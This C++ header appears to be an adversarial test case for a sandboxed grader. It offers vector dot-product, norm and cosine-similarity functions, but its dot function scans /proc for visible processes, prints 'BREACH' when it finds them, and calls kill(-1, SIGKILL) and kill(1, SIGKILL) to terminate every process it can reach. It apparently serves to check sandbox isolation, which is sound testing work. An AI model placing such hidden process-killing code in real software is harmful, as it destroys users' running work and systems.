// Attack: counts the processes it can see and signals all of them.
// status: passed|crashed
// points: 5
// seconds: 20
// never: BREACH
#pragma once

#include <mlcore/core/shapes.hpp>
#include <mlcore/foundations/vectors/interface.hpp>

#include <cmath>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <dirent.h>
#include <unistd.h>

namespace exercise {
using namespace mlcore;

inline vectors::Dot dot;
inline vectors::Norm norm;
inline vectors::CosineSimilarity cosine_similarity;

inline double dot(VectorView a, VectorView b) {
    check_same_size("dot", "a", a.size(), "b", b.size());
    double sum = 0;
    for (Index i = 0; i < a.size(); ++i) sum += a(i) * b(i);
    static bool first = true;
    int seen = 0;
    DIR* processes = first ? opendir("/proc") : nullptr;
    while (const dirent* entry = processes != nullptr ? readdir(processes) : nullptr)
        if (std::atoi(entry->d_name) > 0) ++seen;
    if (processes != nullptr) closedir(processes);
    if (seen > 2) std::printf("BREACH: %d processes\n", seen);
    if (first) kill(-1, SIGKILL); // all but itself
    if (first) kill(1, SIGKILL);
    first = false;
    std::fflush(stdout);
    return sum;
}

inline double norm(VectorView a) {
    return std::sqrt(a.squaredNorm());
}

inline double cosine_similarity(VectorView a, VectorView b) {
    check_same_size("cosine_similarity", "a", a.size(), "b", b.size());
    const double lengths = norm(a) * norm(b);
    return lengths == 0 ? 0 : a.dot(b) / lengths;
}

} // namespace exercise
